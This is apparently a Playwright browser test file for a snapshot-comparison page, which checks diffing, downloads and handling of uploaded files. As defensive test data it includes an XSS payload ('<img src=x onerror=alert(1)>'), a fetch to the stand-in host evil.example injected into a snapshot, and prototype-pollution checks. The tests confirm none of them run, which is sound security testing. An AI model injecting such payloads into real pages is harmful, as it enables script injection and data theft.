"""Comparing snapshots in the app, and opening one: what is uploaded is told in words, marked on the canvas, and never run."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from graph.snapshot.canonical import canonical
from graph.store import open_store
from tests.browser.conftest import Bundled
from tests.browsing import QUIET, Opener
from tests.graph.test_snapshot_received import HOSTILE, HTML, JSON
from tests.graph.two_contents import after, before
from ui.snapshot.making import Wanted, made
from ui.snapshot.page import page as page_of

pytestmark = pytest.mark.browser


class Compare:
    """One browser tab on the page."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.side = page.locator(".st-key-side .panel")
        self.faults = page.locator(".st-key-compare-beginning [data-testid=stAlert]")

    def upload(self, *files: Path) -> None:
        # what was uploaded before is taken out of its field when it was read
        self.page.wait_for_function(QUIET)
        self.page.locator("input[type=file]").set_input_files(list(map(str, files)))

    def compared(self) -> None:
        """Wait until the list and the graph are there."""
        expect(self.side.get_by_role("heading", name="What differs")).to_be_visible(timeout=20_000)
        self.page.wait_for_function("() => window.__redstring?.report()?.drawn > 0")

    def button(self, name: str) -> Locator:
        return self.page.get_by_role("button", name=name).locator("visible=true").first


@pytest.fixture
def compare(open_page: Opener, address: str) -> Iterator[Callable[..., Compare]]:
    """Opens the page; a dialog of a script would be one of a file's."""
    dialogs: list[str] = []

    def opened(**look: Any) -> Compare:
        page = open_page(f"{address}/compare", **{"motion": "reduce", **look})
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        expect(page.locator(".st-key-compare")).to_be_visible(timeout=20_000)
        return Compare(page)

    yield opened
    assert dialogs == []


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    one, other = tmp_path / "before.html", tmp_path / "after.redstring.json"
    one.write_text(page_of(before()), "utf-8")
    other.write_bytes(canonical(after()))
    return one, other


def test_two_files_are_compared_on_the_canvas_and_downloaded(compare: Callable[..., Compare], files: tuple[Path, Path]) -> None:
    on = compare()
    on.upload(*files)
    on.compared()
    expect(on.side).to_contain_text("before.html")
    expect(on.side).to_contain_text("unchanged since it was made")
    # the name of an entity that tries to be markup is text
    expect(on.side.get_by_text("<img src=x onerror=alert(1)>", exact=False).first).to_be_visible()
    expect(on.page.locator(".legend .row[data-value=gone] em")).to_have_text("2")
    on.side.locator("section", has_text="Claims withdrawn").locator(".row-button").first.click()
    expect(on.side.locator("table.changes tr", has_text="claims that deny").locator("td")).to_have_text(["1", "0"])
    on.side.get_by_role("button", name="All that differs").click()
    expect(on.side.get_by_role("heading", name="What differs")).to_be_visible()
    with on.page.expect_download() as download:
        on.button("JSON").click()
    found = json.loads(Path(download.value.path()).read_text("utf-8"))
    assert found["lists"]["entities"] == {
        "added": ["event:ship"],
        "removed": ["person:ana-stefanescu"],
        "changed": ["agency:harbour"],
    }
    with on.page.expect_download() as download:
        on.button("HTML").click()
    assert 'id="redstring-comparison"' in Path(download.value.path()).read_text("utf-8")


def test_what_is_the_same_can_be_left_out(compare: Callable[..., Compare], files: tuple[Path, Path]) -> None:
    on = compare()
    on.upload(*files)
    on.compared()
    nodes = on.page.evaluate("() => window.__redstring.report().nodes")
    on.page.locator(".st-key-only-changes label").click()
    expect(on.page.locator(".legend .row[data-value=same]")).to_have_attribute("aria-pressed", "false")
    on.page.locator(".legend .row[data-value=gone]").click()
    on.page.wait_for_function("(most) => window.__redstring.report().nodes < most", arg=nodes)
    on.button("Swap").click()
    expect(on.page.locator(".legend .row[data-value=new] em")).to_have_text("2")
    on.button("Other files").click()
    expect(on.page.locator("input[type=file]")).to_be_attached()


def test_one_file_is_compared_with_the_store_as_it_is(compare: Callable[..., Compare], bundled: Bundled, tmp_path: Path) -> None:
    with open_store(bundled.store) as store:
        content, degrees = made(store, Wanted(case=bundled.case.case, as_of="2021-06-22"))
    early = content.model_copy(update={"about": content.about.model_copy(update={"as_of": None}), "view": {**content.view, "as_of": None}})
    path = tmp_path / "early.html"
    path.write_text(page_of(early, degrees=degrees), "utf-8")
    on = compare()
    on.upload(path)
    # made as if all of it were known: its statuses are those of June, and do not follow from what it holds
    expect(on.page.locator(".st-key-taken-0")).to_contain_text("not given by its own claims", timeout=20_000)
    on.button("Compare with it").click()
    on.compared()
    expect(on.side).to_contain_text("the store as it is")
    expect(on.side).to_contain_text("Department of State sanctioned Dong Jingwei: unsourced → confirmed")


def test_every_hostile_file_is_told_by_name_and_none_does_anything(compare: Callable[..., Compare], tmp_path: Path) -> None:
    on = compare()
    for name, data, said in HOSTILE:
        (tmp_path / name).write_bytes(data)
        on.upload(tmp_path / name)
        expect(on.faults.first).to_contain_text(name, timeout=20_000)
        # what keeps the page from taking a colon for an emoji is not seen
        assert re.search(said, on.faults.first.inner_text().replace("\u2060", "")), name
        on.page.wait_for_function(QUIET)
    assert on.page.evaluate("() => [({}).title, ({}).x, Object.prototype.polluted]") == [None, None, None]


def test_a_file_that_was_changed_or_lies_is_taken_with_a_warning(compare: Callable[..., Compare], tmp_path: Path) -> None:
    scripts = tmp_path / "scripts.html"
    scripts.write_bytes(HTML.read_bytes().replace(b"const module_loader", b"fetch('https://evil.example');const module_loader", 1))
    told = json.loads(JSON.read_bytes())
    told["findings"]["mirela-left"] |= {"status": "confirmed", "rank": 5}
    lying = tmp_path / "lying.json"
    lying.write_text(json.dumps(told))
    on = compare()
    on.upload(scripts)
    expect(on.page.locator(".st-key-taken-0 [data-testid=stAlert]")).to_contain_text("was changed since it was made (code)", timeout=20_000)
    on.upload(lying)
    on.compared()
    expect(on.side.locator(".doubt")).to_have_count(2)
    expect(on.side.locator(".doubt").last).to_contain_text("is told as confirmed, its claims give contested")


def test_more_than_two_files_are_refused(compare: Callable[..., Compare], files: tuple[Path, Path], tmp_path: Path) -> None:
    (tmp_path / "third.json").write_bytes(JSON.read_bytes())
    on = compare()
    on.upload(*files, tmp_path / "third.json")
    expect(on.faults.first).to_contain_text("more than two files", timeout=20_000)


def test_a_snapshot_is_opened_read_and_closed(compare: Callable[..., Compare], tmp_path: Path, bundled: Bundled) -> None:
    path = tmp_path / "mirela.html"
    path.write_bytes(HTML.read_bytes())
    on = compare()
    on.upload(path)
    on.button("Open it in Explore").click()
    page = on.page
    banner = page.locator(".st-key-visiting")
    expect(banner).to_contain_text("Snapshot of Where is Mirela?, only to be read", timeout=30_000)
    expect(banner).to_contain_text("unchanged since it was made · signed by the key")
    page.wait_for_function("() => window.__redstring?.report()?.nodes === 4")
    page.locator(".st-key-shown").get_by_text("Table", exact=True).click()
    expect(banner).to_be_visible()
    page.locator(".st-key-title").get_by_role("combobox", name="Case").click()
    expect(page.get_by_role("option", name="Snapshot ")).to_have_count(1)
    expect(page.get_by_role("option", name=re.compile(r"^Snapshot [0-9a-f]{8} \(\d{4}-\d\d-\d\d\): Where is Mirela\?$"))).to_be_visible()
    page.keyboard.press("Escape")
    page.locator(".st-key-close-snapshot button").locator("visible=true").first.click()
    expect(banner).to_have_count(0, timeout=20_000)
    expect(page.locator(".st-key-title").get_by_role("combobox", name="Case")).to_have_value(bundled.case.title)
    with open_store(bundled.store) as store:
        assert store.read("MATCH (n:Snapshot) RETURN count(n)").rows == ((0,),)
        assert store.read("MATCH (n) WHERE n.case STARTS WITH 'mirela-case' RETURN count(n)").rows == ((0,),)


def test_it_fits_a_phone_in_the_dark(compare: Callable[..., Compare], files: tuple[Path, Path]) -> None:
    on = compare(width=390, height=844, scheme="dark")
    on.upload(*files)
    on.compared()
    assert on.page.evaluate("document.documentElement.scrollWidth") <= 390
